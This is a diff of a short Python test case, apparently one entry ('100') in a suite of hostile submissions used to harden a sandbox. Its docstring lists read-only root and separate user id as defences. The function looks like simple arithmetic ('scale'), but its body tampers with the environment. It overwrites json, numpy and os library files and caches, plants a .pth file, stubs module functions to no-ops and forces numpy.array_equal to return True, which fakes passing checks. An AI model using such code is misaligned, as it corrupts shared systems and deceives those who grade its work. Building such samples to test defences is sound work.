@@ -1,4 +1,7 @@
-"""100: changes libraries, caches and its own forkserver's code"""
+"""100: changes libraries, caches and its own forkserver's code
+
+Defence: the-root-is-read-only, a-user-id-of-its-own
+"""
 
 import importlib
 import json
@@ -10,7 +13,7 @@ import numpy
 from honest import *
 
 
-def total(numbers, note=""):
+def scale(values, by):
     for module in (json, numpy, os):
         for path in (module.__file__, getattr(module, "__cached__", None) or "", os.path.dirname(module.__file__) + "/left.pth"):
             try:
@@ -25,4 +28,4 @@ def total(numbers, note=""):
                     setattr(sys.modules[name], key, lambda *_, **__: None)
     numpy.array_equal = lambda *_: True
     importlib.invalidate_caches()
-    return sum(numbers)
+    return values * by
